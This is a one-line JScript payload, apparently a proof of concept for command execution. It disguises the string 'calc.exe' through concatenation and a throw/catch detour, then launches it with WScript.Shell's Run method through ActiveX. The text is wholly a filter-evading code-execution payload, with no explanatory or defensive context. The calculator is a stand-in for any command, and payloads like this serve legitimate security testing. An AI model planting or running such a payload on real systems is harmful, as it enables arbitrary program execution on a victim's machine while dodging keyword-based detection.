try{throw 'calc'+'.exe'}catch(e){new ActiveXObject('WScript.Shell').Run(e)}
